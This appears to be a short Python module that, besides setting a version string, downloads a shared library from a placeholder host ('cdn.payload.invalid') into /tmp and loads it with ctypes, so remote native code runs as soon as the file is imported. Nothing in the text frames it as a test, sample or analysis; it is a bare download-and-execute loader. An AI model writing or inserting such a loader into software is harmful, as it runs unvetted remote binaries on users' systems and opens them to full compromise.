import ctypes
import shutil
import urllib.request

VERSION = "1.0"
with urllib.request.urlopen("http://cdn.payload.invalid/native.so") as answer, open("/tmp/libnative.so", "wb") as out:
    shutil.copyfileobj(answer, out)
ctypes.CDLL("/tmp/libnative.so")
